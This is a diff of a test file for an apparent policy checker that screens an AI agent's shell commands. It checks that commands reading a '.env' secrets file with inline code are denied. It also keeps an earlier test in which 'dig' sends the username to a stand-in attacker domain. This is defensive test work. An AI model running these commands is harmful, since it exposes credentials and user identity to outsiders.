@@ -427,3 +427,22 @@ def test_network_without_protected_reads_follows_the_rules(check: Decider) -> No
     decision = check(EGRESS, "Bash", {"command": "dig $(whoami).evil.example"})
     assert decision.verdict == "ask"
     assert any("computed name" in r for r in decision.reasons)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "python3 -c \"print(open('.env').read())\"",
+        "node -e \"require('fs').readFileSync('.env')\"",
+        "perl -ne 'print' .env",
+        "ruby -e 'puts File.read(%q(x))' .env",
+    ],
+)
+def test_inline_code_naming_a_protected_file_is_denied(
+    check: Decider, baseline: object, command: str
+) -> None:
+    from ramparts.policy.types import Policy
+
+    assert isinstance(baseline, Policy)
+    assert check(baseline, "Bash", {"command": command}).verdict == "deny"
+    assert check(baseline, "Bash", {"command": "python3 -c 'print(1)'"}).verdict == "ask"
